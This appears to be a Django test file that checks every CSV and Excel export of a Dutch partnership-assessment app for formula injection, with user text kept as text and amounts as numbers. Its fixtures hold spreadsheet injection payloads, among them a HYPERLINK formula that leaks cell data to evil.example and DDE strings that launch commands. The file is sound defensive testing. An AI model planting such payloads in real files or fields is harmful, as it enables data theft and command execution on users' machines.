"""No download runs a formula: every CSV and Excel export, with user text that looks like one.

Every URL that ends in .csv or .xlsx is found in the URL configuration, filled with the
objects below and downloaded. Texts typed by users (partnership name, round period, next
steps, owners, explanations, the name of who changed an answer) start with "=", "+", "-",
"@", a tab, a carriage return or a full-width "＝". Opened in Excel or LibreOffice, none of
them may become a formula; numbers must stay numbers.
"""

import csv
import io
import zipfile
from datetime import timedelta

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from openpyxl import load_workbook

from assessments.constants import Perspective, RoundStatus
from partnerships.constants import Role
from partnerships.models import Participation, VerbondenPartijFacts
from tests.factories import (
    make_assessment,
    make_next_step,
    make_organisation,
    make_partnership,
    make_round,
    make_user,
)

pytestmark = pytest.mark.django_db

TODAY = timezone.localdate()
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d")

PARTNERSHIP = '=HYPERLINK("http://evil.example/?d="&A1,"Regio")'
PERIOD = "+2026"
OLD_PERIOD = "-2025"
STEPS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]
OWNER = "=Griffie"
EXPLANATION = "=SUM(A1:A9)"
EDITOR_NAME = "@Piet"
# The BBV facts the contramal types, each in one text field of the paragraaf's export.
FACT_TEXTS = {
    "location": STEPS[0],
    "public_interest": STEPS[1],
    "seat": STEPS[2],
    "liability": STEPS[3],
    "risks": STEPS[6],
}


@pytest.fixture
def world(gids):
    aalstad = make_organisation("Gemeente Aalstad")
    partnership = make_partnership(PARTNERSHIP, participants=[aalstad, "Gemeente Beekdorp"])
    old = make_round(
        partnership,
        period=OLD_PERIOD,
        opens_on=TODAY - timedelta(days=400),
        due_on=TODAY - timedelta(days=340),
        status=RoundStatus.CLOSED,
    )
    make_assessment(old, organisation=aalstad, submitted=True, answers={"A1.1": 4, "A1.2": 4})
    new = make_round(
        partnership,
        period=PERIOD,
        opens_on=TODAY - timedelta(days=10),
        due_on=TODAY + timedelta(days=20),
        previous=old,
    )
    editor = make_user(Role.GRIFFIER, organisation=aalstad)
    editor.first_name = EDITOR_NAME
    editor.save()
    assessment = make_assessment(
        new,
        organisation=aalstad,
        perspective=Perspective.RAAD,
        submitted=True,
        user=editor,
        answers={"A1.1": (1, EXPLANATION), "A1.2": (0, "-geen afspraken"), "A2.1": 2},
    )
    for number, text in enumerate(STEPS):
        make_next_step(
            new,
            description=text,
            owner=OWNER,
            due_on=TODAY + timedelta(days=number - 3),  # some overdue, some not
            recommendation="A1.2",
        )
    facts = VerbondenPartijFacts.objects.create(
        participation=Participation.objects.get(partnership=partnership, organisation=aalstad),
        year=TODAY.year,
        bbv_group="gemeenschappelijke_regeling",
        contribution=125000,
        equity_start=-12500,
        result=-3000,
        **FACT_TEXTS,
    )
    return {
        "assessment": assessment,
        "round": new,
        "editor": editor,
        "organisation": aalstad,
        "facts": facts,
    }


def download_routes() -> list[str]:
    """Every route in the URL configuration that produces a CSV or Excel file."""
    routes: list[str] = []

    def walk(patterns, prefix: str) -> None:
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, prefix + str(p.pattern))
            elif isinstance(p, URLPattern):
                route = prefix + str(p.pattern)
                if route.endswith((".csv", ".xlsx")):
                    routes.append(route)

    walk(get_resolver().url_patterns, "")
    return routes


def fill(route: str, world: dict) -> str:
    """The URL of a download route for the objects of `world`."""
    if route.startswith("evaluaties/<int:pk>/"):
        return "/" + route.replace("<int:pk>", str(world["assessment"].pk))
    if route.startswith("rondes/<int:pk>/"):
        return "/" + route.replace("<int:pk>", str(world["round"].pk))
    if route.startswith("organisaties/<int:pk>/verbonden-partijen/<int:year>/"):
        url = route.replace("<int:pk>", str(world["organisation"].pk))
        return "/" + url.replace("<int:year>", str(world["facts"].year))
    assert "<" not in route, f"download {route!r}: add its object to fill() in this test"
    return "/" + route


def xlsx_problems(content: bytes) -> tuple[list[str], list[object]]:
    """The cells that a spreadsheet would run as a formula, and every value in the file."""
    problems, values = [], []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                if "<f>" in xml or "<f " in xml:
                    problems.append(f"{name}: contains a formula element")
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                values.append(cell.value)
                if cell.data_type == "f":
                    problems.append(f"{sheet.title}!{cell.coordinate}: formula {cell.value!r}")
                elif isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    problems.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    return problems, values


def csv_problems(content: bytes) -> tuple[list[str], list[str]]:
    text = content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    fields = [field for row in rows for field in row]
    problems = [
        f"row {n + 1}: {field!r}"
        for n, row in enumerate(rows)
        for field in row
        if field.startswith(FORMULA_START)
    ]
    return problems, fields


def test_every_download_is_walked():
    routes = download_routes()
    assert {
        "evaluaties/<int:pk>/export.csv",
        "evaluaties/<int:pk>/export.xlsx",
        "rondes/<int:pk>/vervolgstappen.csv",
        "rondes/<int:pk>/vervolgstappen.xlsx",
        "dashboard/export.xlsx",
        "organisaties/<int:pk>/verbonden-partijen/<int:year>/paragraaf.xlsx",
    } <= set(routes)


def test_no_download_contains_a_formula(client, world):
    client.force_login(make_user(Role.BEHEERDER))
    checked = []
    for route in download_routes():
        url = fill(route, world)
        response = client.get(url)
        assert response.status_code == 200, url
        if route.endswith(".xlsx"):
            problems, values = xlsx_problems(response.content)
        else:
            problems, values = csv_problems(response.content)
        assert not problems, f"{url}:\n" + "\n".join(problems)
        texts = [v for v in values if isinstance(v, str)]
        # The hostile texts are in the file, shown as text (with a leading apostrophe).
        # The answers' export holds the answers only; the paragraaf the BBV facts.
        expected = FACT_TEXTS.values() if "verbonden-partijen" in route else STEPS
        if not route.endswith("export.csv"):
            for step in expected:
                assert any(t.endswith(step.lstrip("\t\r")) for t in texts), (url, step)
        checked.append(url)
    assert len(checked) == len(download_routes()) >= 5


def test_the_answers_keep_their_text_and_their_numbers(client, world):
    """What the user typed is still readable, behind an apostrophe; scores stay numbers."""
    client.force_login(make_user(Role.BEHEERDER))
    pk = world["assessment"].pk
    _, fields = csv_problems(client.get(f"/evaluaties/{pk}/export.csv").content)
    assert "'" + EXPLANATION in fields and "'-geen afspraken" in fields
    assert "'" + EDITOR_NAME in fields

    book = load_workbook(io.BytesIO(client.get(f"/evaluaties/{pk}/export.xlsx").content))
    sheet = book["Antwoorden"]
    header = [c.value for c in sheet[1]]
    answers = {r[1]: r for r in sheet.iter_rows(min_row=2, values_only=True)}
    assert answers["A1.1"][3] == 1 and answers["A1.1"][5] == "'" + EXPLANATION
    assert answers["A1.1"][header.index("gewijzigd door")] == "'" + EDITOR_NAME


def test_the_overview_keeps_names_as_text_and_a_fall_as_a_negative_number(client, world):
    client.force_login(make_user(Role.BEHEERDER))
    book = load_workbook(io.BytesIO(client.get("/dashboard/export.xlsx").content))
    sheet = book["Overzicht"]
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if PARTNERSHIP in str(r[0].value))
    cells = dict(zip(header, row, strict=False))
    assert cells["Samenwerkingsverband"].value == "'" + PARTNERSHIP
    assert cells["Samenwerkingsverband"].data_type == "s"
    assert cells["Huidige ronde"].value == "'" + PERIOD
    change = cells["Verandering (procentpunt)"]
    assert isinstance(change.value, int | float) and change.value < 0
    assert change.data_type == "n"
    steps = book["Vervolgstappen"]
    owners = {r[3] for r in steps.iter_rows(min_row=2, values_only=True)}
    assert owners == {"'" + OWNER}


def test_the_paragraaf_keeps_facts_as_text_and_amounts_as_numbers(client, world):
    client.force_login(make_user(Role.BEHEERDER))
    url = f"/organisaties/{world['organisation'].pk}/verbonden-partijen/{TODAY.year}/paragraaf.xlsx"
    sheet = load_workbook(io.BytesIO(client.get(url).content))["Verbonden partijen"]
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=False))
    assert cells["Verbonden partij"].value == "'" + PARTNERSHIP
    assert cells["Openbaar belang"].value == "'" + FACT_TEXTS["public_interest"]
    assert cells["Bestuurlijk belang: zetel"].value == "'" + FACT_TEXTS["seat"]
    for name, value in (("Eigen vermogen begin jaar (€)", -12500), ("Resultaat (€)", -3000)):
        assert cells[name].data_type == "n" and cells[name].value == value
        assert "€" in cells[name].number_format
